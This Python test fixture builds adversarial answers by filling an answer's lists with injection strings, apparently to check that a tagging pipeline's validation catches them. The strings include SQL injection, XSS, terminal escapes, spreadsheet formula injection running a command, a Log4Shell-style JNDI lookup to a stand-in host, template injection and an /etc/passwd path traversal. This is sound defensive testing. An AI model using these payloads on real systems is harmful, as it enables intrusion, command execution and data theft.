"""Adversarial answers: text aimed at a database, a browser, a terminal or a spreadsheet.

Every entry is valid as a tag by its length and number of words, so that only its content could exclude it.
"""

from dataclasses import replace
from itertools import cycle
from typing import Any, cast

import orjson

from grabient_pipeline.sandbox.model.answers import Answer

WORDS = (
    "';drop/**/table/**/palettes;--",
    "x' or '1'='1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[a](javascript:alert(1))",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;owned\x07",
    "\x9b2jcleared",
    "over\rwritten",
    "two\nlines",
    "\u202egnp.exe",
    "=cmd|'/c calc'!a0",
    "=1+1",
    "+1+1",
    "-1+1",
    "@sum(1+1)",
    "\uff20sum(1+1)",
    "\tindented",
    "${jndi:ldap://a.invalid/a}",
    "{{7*7}}",
    "%s%n%x",
    "../../../etc/passwd",
    "nul\x00byte",
)


def make_adversarial(answer: Answer) -> Answer:
    """The same answer with adversarial words in its lists; other values and the cost are unchanged."""
    if answer.value is None:
        return answer
    words = cycle(WORDS)
    value: dict[str, Any] = {
        name: [next(words) for _ in range(max(8, len(cast("list[Any]", said))))] if isinstance(said, list) else said
        for name, said in answer.value.items()
    }
    return replace(answer, value=value, text=orjson.dumps(value).decode())
